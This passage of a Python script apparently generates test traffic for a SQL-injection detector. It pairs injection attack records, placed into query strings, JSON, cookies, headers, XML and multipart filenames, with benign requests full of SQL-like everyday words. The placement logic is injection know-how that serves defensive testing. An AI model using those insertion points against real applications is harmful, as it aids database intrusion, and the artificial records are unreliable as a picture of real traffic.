        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, value)])
    if place == "json":
        doc = _mongo_value(value) if sub == "mongodb-injection" else value
        return _json("/api/users", {"email": "a@example.org", name: doc})
    if place == "json-uescape":
        return _raw_json("/api/users", '{"email": "a@example.org", "' + name + '": ' + _uescape(value) + "}")
    if place == "cookie":
        return _with_headers(_get("/api/users?page=1"),
                             {"Cookie": "session=abc123; prefs=" + urllib.parse.quote(value)})
    if place == "header:User-Agent":
        return _with_headers(_get("/api/users?page=1"), {"User-Agent": _hv(value)})
    if place == "header:Referer":
        return _with_headers(_get("/api/users?page=1"), {"Referer": "https://app.example.com/?q=" + _hv(value)})
    if place == "header:X-Custom":
        return _with_headers(_get("/api/users?page=1"), {"X-Search-Filter": _hv(value)})
    if place == "param-name":
        return _get("/api/users?" + urllib.parse.quote(value, safe="") + "=1&page=1")
    if place == "xml":
        return _xml("/api/users", "user", name, value)
    if place == "multipart-field":
        return _multipart("/admin/users/search", [("csrf_token", "t0k3n", None), (name, value, None)])
    if place == "multipart-filename":
        filename = _hv(value).replace('"', "%22")
        return _multipart("/api/users/42/avatar", [("caption", "me", None), ("file", "PNGDATA", filename)])
    if place == "path":
        return _get("/api/users/" + urllib.parse.quote(value, safe=""))
    raise ValueError(place)


def _rs(place: str, path: str, name: str, value: str, sub: str) -> dict[str, Any]:
    if place == "rs-query":
        return _get(_query(path, [(name, value)]))
    if place == "rs-form":
        return _form(path, [(name, value)])
    if place == "rs-json":
        return _json(path, {name: _mongo_value(value) if sub == "mongodb-injection" else value})
    if place == "rs-json-uescape":
        return _raw_json(path, '{"' + name + '": ' + _uescape(value) + "}")
    if place == "rs-xml":
        return _xml(path, "root", name, value)
    if place == "rs-raw-body":
        return {"method": "POST", "uri": path, "body": value,
                "headers": {"User-Agent": UA, "Accept": "*/*", "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-header:User-Agent":
        return _with_headers(_get(path), {"User-Agent": _hv(value)})
    if place == "rs-header:Referer":
        return _with_headers(_get(path), {"Referer": _hv(value)})
    if place == "rs-header:X-Custom":
        return _with_headers(_get(path), {"X-Custom-Header": _hv(value)})
    if place == "rs-cookie":
        return _with_headers(_get(path), {"Cookie": f"{name}=" + urllib.parse.quote(value)})
    raise ValueError(place)


def _split(place: str, path: str, first: str, second: str) -> dict[str, Any]:
    """Both halves of a split query, each in its own field of one request."""
    if place == "query":
        return _get(_query("/api/users", [("login", first), ("code", second)]))
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), ("login", first), ("code", second)])
    if place == "json":
        return _json("/api/users", {"login": first, "code": second})
    if place == "multipart-field":
        return _multipart("/admin/users/search",
                          [("csrf_token", "t0k3n", None), ("login", first, None), ("code", second, None)])
    if place == "rs-query":
        return _get(_query(path, [("user", first), ("arg1", second)]))
    if place == "rs-form":
        return _form(path, [("user", first), ("arg1", second)])
    if place == "rs-json":
        return _json(path, {"user": first, "arg1": second})
    raise ValueError(place)


def attacks() -> Iterator[dict[str, Any]]:
    """Each payload in two or three places (three for every eighth payload of a title), placements in turn."""
    n = 0
    cursor: dict[str, int] = {}
    for sub, payloads in TITLES:
        pool = POOLS.get(sub, ROTATION)
        key = "rotation" if pool is ROTATION else sub
        for i, payload in enumerate(payloads):
            for _ in range(3 if i % 8 == 0 else 2):
                c = cursor.get(key, 0)
                cursor[key] = c + 1
                place = pool[c % len(pool)]
                path = RS_PATHS[c % len(RS_PATHS)]
                if sub == "auth-bypass-split-query":
                    first, second = payload.split(" | ", 1)
                    rec = _split(place, path, first, second)
                elif place.startswith("rs-"):
                    rec = _rs(place, path, RS_NAMES[c % len(RS_NAMES)], payload, sub)
                else:
                    rec = _real(place, REAL_NAMES[c % len(REAL_NAMES)], payload, sub)
                n += 1
                yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub, "placement": place,
                       "payload": payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words as people type them.

SLACK_TEXTS = [
    # chat at work
    "can someone select a date for the offsite? union square or the waterfront both work",
    "I need to sleep on it, let's decide tomorrow",
    "our benchmark numbers for the new laptops are in the sheet",
    "the union meeting is at 5, I'll drop by after",
    "don't forget to update the table in the wiki with your office hours",
    "drop me a line when you're back from lunch",
    "we're going to merge the two design docs into one",
    "please execute the plan as discussed, ping me if anything's unclear",
    "the match against Leeds is on Saturday, who's coming?",
    "I'll wait for the delay notice from the airline before rebooking",
    "the shutdown of the old office printer is scheduled for Friday",
    "Happy birthday Chris! \U0001f389 cake in the kitchen at 3",
    "O'Brien's pub tonight? first round's on me",
    "it's a 'wait and see' kind of situation",
    "we can't go live until legal signs off -- probably next week",
    "the vote was 12 for, 3 against; motion carried",
    "if it rains we'll move inside, else we stay on the terrace",
    "case in point: the last release went fine without the freeze",
    "sorry, I'm running 10 min late -- train delay again",
    "new hire onboarding: select your laptop from the catalog by Monday",
    "the hotel has a sleep-quality guarantee, apparently that's a thing",
    "Order by Thursday if you want a hoodie, sizes S to XXL",
    "Group by team for the photo please, then everyone together",
    "having fun at the retreat, the views are incredible",
    "Where's the key to the bike shed? it's not on the hook",
    "let's alter the agenda: demo first, then Q&A",
    "the exec team update is moved to 4pm",
    "who's got the charger for the conference room TV?",
    "the benchmark for success is 90% customer satisfaction",
    "I like the new logo, especially the colour",
    "between you and me, the coffee machine upgrade is overdue",
    "any volunteers to declare the winner of the chili cook-off?",
    "Regexp or not, the form still accepts emoji in names \U0001f600",
    "I'm out from the 4th to the 9th; Maria covers for me",
    "we hit 4,294,967,296 API calls this year, that's 2^32!",
    "the max int joke in the all-hands was great: 2147483647 + 1",
    "who left the hex key set on my desk? thanks whoever you are",
    "the colour in the mockup is #1e90ff, not #0000ff",
    "my phone is +1 (415) 555-0199 if the call drops",
    "reminder: truncate your status updates to 3 bullet points",
    "grant proposal is due on the 30th, drafts in the shared folder",
    "Anyone else going to the PostgreSQL meetup on Thursday?",
    "the MongoDB license question is for legal, not for us",
    "we're migrating from MySQL to Postgres over the summer",
    "Oracle sent the renewal quote again, forwarding to procurement",
    "the SQL Server box in the closet is finally decommissioned",
    "sqlite is perfect for the offline mode of the mobile app",
    "the password manager rollout is next week, watch for the invite",
    "the master bedroom at the Airbnb is yours, Sam",
    "tempdb? no idea, ask the DBA team",
    # developer talk, as engineers type it in chat
    "the report query is `SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'`",
    "can you run `EXPLAIN ANALYZE` on the slow search and paste the plan?",
    "we use pg_sleep in the integration test to simulate a slow replica",
    "MATCH ... AGAINST needs a FULLTEXT index, we don't have one on that column",
    "the migration does ALTER TABLE users ADD COLUMN timezone text, should be quick",
    "careful, a MERGE statement on that table locks it for a while",
    "don't concatenate user input into SQL; use bind parameters, always",
    "I added a UNION ALL to combine the two reports, it's in the PR",
    "the ORM generates ORDER BY id DESC LIMIT 50, which is fine",
    "benchmark() in MySQL is handy for timing expressions, but not in prod",
    "the WAITFOR DELAY in the old stored proc is why the job took so long",
    "we set SET NAMES utf8mb4 on connect now, emoji work everywhere",
    "xp_cmdshell is disabled on all our SQL Server instances, as it should be",
    "information_schema is where you find the column types, if you need them",
    "the $where operator in Mongo is slow, use $expr instead",
    "use $in for the list of ids, not a loop of finds",
    "hex colours in the theme file should be lowercase: #ffcc00",
    "the comment syntax in MySQL is -- with a space, or #",
    "the JSON column uses ->> to extract text, handy for the reports",
    "1e-308 is close to the smallest normal double, fun fact from the float bug",
    "the CSV had 1.5e10 in it and Excel mangled it again",
    "the backticks in the markdown broke the code block, add another pair",
    "quote your identifiers with double quotes in Postgres, backticks are MySQL",
    "the deadlock was a SELECT ... FOR UPDATE in two transactions",
    "try `git log --oneline | head -20` to see the recent merges",
    "the stored procedure was replaced by a view, much easier to test",
    "dbms_output is how the Oracle folks print debugging info",
    "the EXECUTE IMMEDIATE in the PL/SQL package builds the partition name",
    "CASE WHEN status = 'paid' THEN 1 ELSE 0 END is what the dashboard counts",
    "LIKE 'abc%' can use the index, LIKE '%abc' cannot",
]

BIOS = [
    "Database engineer. I write SQL for a living and select my coffee beans carefully.",
    "Union organiser, amateur baker, and lifelong Arsenal fan.",
    "Sleep researcher at the university hospital.",
    "Benchmarking performance of storage systems since 2009.",
    "Table tennis champion of our office, 3 years running.",
    "Former drop-shipping entrepreneur, now in logistics.",
    "Mergers and acquisitions lawyer. I execute deals.",
    "Chess player: I like to match wits against anyone.",
    "I'm Seán O'Connor, product designer in Dublin.",
    "D'Angelo, backend developer; likes Postgres, dislikes ORMs.",
    "She/her. Writer. Reader. 'Coffee first' is my motto.",
    "DBA for SQL Server and Oracle; MongoDB on weekends.",
    "Data analyst: GROUP BY, ORDER BY and HAVING are my daily bread.",
    "Charity runner -- 5 marathons and counting.",
    "#blessed #coffee #devops",
    "Mother of two, manager of ten, sleeper of none.",
    "Electrician: I shut down and start up power grids.",
    "Exec assistant to the CFO.",
    "Sound engineer: delay, reverb and compressors.",
    "I alter wedding dresses in my spare time.",
    "Math teacher. Favourite number: 2147483647 (a prime!).",
    "Likes: hex keys, Ikea furniture, puzzles.",
    "Backend dev. My bio is `SELECT * FROM me`, sorry.",
    "I like `backticks` and ``double backticks`` in markdown.",
    "Wine importer: Merlot, Malbec and Case wines from Chile.",
    "Painter. My palette: #ff6600 and #003366.",
    "I don't like surprises, or semicolons; or both.",
    "Formerly at Oracle, now at a startup.",
    "I say 'or else' a lot. My kids know what it means.",
    "Born 1.1.1990, raised in Berlin.",
]

SEARCHES = [
    "union station", "select comfort mattress", "sleep apnea clinic", "benchmark fund", "drop ceiling tiles",
    "table for two", "merge pdf", "execute order", "match against", "waitfor", "shutdown procedure",
    "O'Brien", "O'Neil & Sons", "D'Arcy", "it's", "rock 'n' roll", "Jack's", "\"exact phrase\"",
    "order by date", "group by team", "having trouble logging in", "where is my order", "case study",
    "if then else", "select all", "delete account", "insert coin", "update profile", "create team",
    "alter ego", "grant writing", "truncate text", "char broil", "hex nut", "char siu", "null hypothesis",
    "true or false", "1 or 2", "a and b", "like new", "between us", "not null", "is empty", "exists",
    "sql server", "mysql", "postgres", "mongodb", "oracle", "sqlite", "information", "schema",
    "master bedroom", "temp db", "north wind", "sys admin", "sleep 5", "sleep(5)", "benchmark 2024",
    "4294967296", "2147483648", "9223372036854775807", "1e309", "0x41", "#ffcc00", "50%", "100% cotton",
    "1.5e3", "2.e4", "c++", "c#", "f#", "--verbose", "a--b", "x/y", "1/2", "3*4", "a|b", "a & b", "a; b",
    "tom's (old) notes", "ann@example.org", "https://example.com", "¿qué?", "naïve café",
    "`code`", "cat's pyjamas", "rock & roll; blues", "exec summary", "match day", "union jack",
]

NAMES = [
    "Seán O'Brien", "Mary-Kate O'Neil", "D'Andre Johnson", "Zoë D'Souza", "Jean-Luc L'Écuyer",
    "Ana María García", "Nguyễn Thị Minh", "José 'Pepe' Álvarez", "O'Hara, Scarlett", "Dr. Ruth K. Case",
    "Peter Select", "Ann Union", "Sam Sleep", "Merge Anderson", "Tom Drop", "Lee Table",
    "Björk Guðmundsdóttir", "Renée Zellweger-O'Malley", "Chen Wei", "Priya Shah",
]

ADDRESSES = [
    "10 Union Street, Apt 4B, Springfield",
    "221B Baker Street, London NW1 6XE",
    "1 Infinite Loop; Cupertino, CA 95014",
    "O'Connell Street 12, Dublin 1",
    "Rue de l'Église 5, 75001 Paris",
    "Unit 3 -- Select Business Park, Leeds",
    "#42 Main Street, Suite 100",
    "PO Box 2147483647",
    "Merge Lane 7, 12345 Berlin",
    "15 Table Mountain Rd, Cape Town",
    "Sleepy Hollow Rd 3, Tarrytown, NY",
    "Calle 'El Sol' 9, Madrid",
]

DOC_URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/fulltext-search.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://www.postgresql.org/docs/current/sql-merge.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://www.sqlite.org/lang_select.html",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://en.wikipedia.org/wiki/Select_(SQL)",
    "https://en.wikipedia.org/wiki/Union_(set_theory)",
    "https://en.wikipedia.org/wiki/Sleep",
    "https://www.example.com/blog/2024/03/o-briens-guide-to-sql",
    "https://shop.example.com/products?category=tables&sort=price",
    "https://maps.example.com/?q=Union+Square,+San+Francisco",
    "https://news.example.org/sports/match-against-leeds-preview",
    "https://github.com/acme/reports/blob/main/sql/monthly_union.sql",
    "https://stackoverflow.com/questions/123456/how-to-use-group-by-with-having",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://docs.example.com/api#section-select-fields",
    "https://example.org/search?q=sleep+benchmark&page=2",
    "https://www.merriam-webster.com/dictionary/execute",
    "https://www.bbc.co.uk/sport/football/match-report",
    "https://calendar.example.com/event?id=2147483648",
    "https://cdn.example.com/img/logo%20final.png",
]

PROSE = [
    "Please select the union representative for the 2025 negotiations by Friday.",
    "Our benchmark results show the new servers are 20% faster; the report is attached.",
    "Patients with sleep disorders should consult their physician before travel.",
    "The merger was approved; both boards will execute the agreement next week.",
    "We'll drop the old table layout from the catalogue and update the prices.",
    "In case of a delay, wait for the shuttle at gate 4; the shutdown of the tram is temporary.",
    "The match against the visiting team ended 2-1, with a late goal in the 89th minute.",
    "Mr. O'Brien's order (No. 4294967296) was shipped on 1.3.2024.",
    "Select your preferred option: (a) union hall, (b) town hall, or (c) online.",
    "If the weather is fine, then we'll walk; else we'll take the bus.",
    "Group the invoices by month, then order them by amount, having removed duplicates.",
    "The exec summary is on page 1; detailed tables follow from page 4.",
    "He said 'wait for me' and then -- nothing. Classic.",
    "The sample contained 1.5e-3 mg of the compound, well within limits.",
    "Please don't alter the signed copy; make a new one instead.",
    "Between 9 and 5 we answer calls; after hours, leave a message.",
    "Like most members, I voted for the proposal; not all did, though.",
    "Our SQL training covers SELECT, INSERT, UPDATE and DELETE basics for analysts.",
    "The DBA grants read access to the reporting schema on request.",
    "Charlotte's char-grilled steak is the chef's special, 12.50 EUR.",
]

COOKIE_VALUES = [
    "theme=dark", "lang=en-GB", "last_search=union%20station", "tz=Europe%2FLondon", "recent=sleep%20clinic",
    "cart=table%2Cchairs", "sort=price_desc", "seen_tour=true", "name=O%27Brien", "layout=grid",
    "ref=match%20report", "filter=select%20comfort",
]

REFERERS = [
    "https://www.google.com/search?q=union+select+furniture+review",
    "https://www.bing.com/search?q=sleep+benchmark",
    "https://duckduckgo.com/?q=o%27brien+pub",
    "https://app.example.com/admin/users?order=desc&sort=name",
    "https://news.example.org/match-against-leeds",
    "https://example.com/docs/sql/select-from-where",
    "https://t.co/AbC123xyz",
    "https://www.reddit.com/r/SQL/comments/abc/order_by_vs_group_by/",
]

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "okhttp/4.12.0",
    "PostmanRuntime/7.39.0",
]


def _slash_command(text: str, i: int, epoch: int = 1719000000) -> dict[str, Any]:
    """A /note slash command carrying `text` (the replayer signs it)."""
    body = urllib.parse.urlencode([
        ("token", "verification-token"), ("team_id", "T061EG9R6"), ("team_domain", "acme"),
        ("channel_id", "C0123456789"), ("channel_name", "general"), ("user_id", "U012345678"),
        ("user_name", "ann"), ("command", "/note"), ("text", text),
        ("response_url", "https://hooks.slack.com/commands/T061EG9R6/1234/abcd"), ("trigger_id", f"{i}.1234.abcd")])
    return {"method": "POST", "uri": "/slack/commands", "body": body,
            "headers": {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)",
                        "Content-Type": "application/x-www-form-urlencoded",
                        "X-Slack-Request-Timestamp": str(epoch), "X-Slack-Signature": "v0=" + "0" * 64}}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS + BIOS, NAME)
    n = yield from links_and_prose(DOC_URLS, PROSE, NAME, n)
    for text in SEARCHES:
        n += 1
        yield {**_get(_query("/api/users", [("q", text), ("page", "1")])), "id": f"{NAME}-search-{n:04d}",
               "category": "benign", "placement": "query"}
        n += 1
        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", text)]),
               "id": f"{NAME}-adminsearch-{n:04d}", "category": "benign", "placement": "form"}
    for text in SEARCHES:
        n += 1
        yield {**_json("/api/users/search", {"filter": {"text": text}, "limit": 20}),
               "id": f"{NAME}-apisearch-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
        yield {**_get(_query("/search", [("q", text)])), "id": f"{NAME}-sitesearch-{n:04d}",
               "category": "benign", "placement": "query"}
        n += 1
        referer = "https://www.google.com/search?q=" + urllib.parse.quote_plus(text)
        yield {**_with_headers(_get("/api/users?page=1"), {"Referer": _hv(referer)}),
               "id": f"{NAME}-searchref-{n:04d}", "category": "benign", "placement": "header:Referer"}
    for text in SLACK_TEXTS:
        n += 1
        yield {**_json("/api/users/42/comments", {"body": text, "visibility": "team"}),
               "id": f"{NAME}-comment-{n:04d}", "category": "benign", "placement": "json"}
    for i, text in enumerate(SLACK_TEXTS[:40]):
        n += 1
        yield {**_slash_command(text, i), "id": f"{NAME}-slash-{n:04d}", "category": "benign", "placement": "form"}
    for i, name in enumerate(NAMES):
        n += 1
        yield {**_json("/api/users", {"name": name, "email": f"user{i}@example.org"}),
               "id": f"{NAME}-name-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("name", name)]),
               "id": f"{NAME}-name-{n:04d}", "category": "benign", "placement": "form"}
        n += 1
        yield {**_xml("/api/users", "user", "name", name), "id": f"{NAME}-xmlname-{n:04d}",
               "category": "benign", "placement": "xml"}
    for address in ADDRESSES:
        n += 1
        yield {**_json("/api/users/42", {"address": address}), "id": f"{NAME}-address-{n:04d}",
               "category": "benign", "placement": "json"}
        n += 1
        yield {**_multipart("/admin/users/search", [("csrf_token", "t0k3n", None), ("address", address, None)]),
               "id": f"{NAME}-multipart-{n:04d}", "category": "benign", "placement": "multipart-field"}
    for i, cookie in enumerate(COOKIE_VALUES):
        n += 1
        yield {**_with_headers(_get("/api/users?page=1"), {"Cookie": f"session=abc123; {cookie}"}),
               "id": f"{NAME}-cookie-{n:04d}", "category": "benign", "placement": "cookie"}
        n += 1
        yield {**_with_headers(_get("/me/profile"), {"Cookie": f"{cookie}; visits={i + 1}"}),
               "id": f"{NAME}-cookie-{n:04d}", "category": "benign", "placement": "cookie"}
    for referer in REFERERS:
        n += 1
        yield {**_with_headers(_get("/api/users?page=1"), {"Referer": referer}), "id": f"{NAME}-referer-{n:04d}",
               "category": "benign", "placement": "header:Referer"}
    for agent in USER_AGENTS:
        n += 1
        yield {**_with_headers(_get("/api/users?page=1"), {"User-Agent": agent}), "id": f"{NAME}-ua-{n:04d}",
               "category": "benign", "placement": "header:User-Agent"}
    for i, text in enumerate(BIOS):
        n += 1
        filename = ["avatar.png", "me at the beach.jpg", "O'Brien-headshot.png", "table (1).png",
                    "sleep_chart.png", "union-logo.png"][i % 6]
        yield {**_multipart("/api/users/42/avatar", [("caption", text, None), ("file", "PNGDATA", filename)]),
               "id": f"{NAME}-upload-{n:04d}", "category": "benign", "placement": "multipart"}


if __name__ == "__main__":
    for record in [*attacks(), *benign()]:
        print(json.dumps(record, ensure_ascii=False))
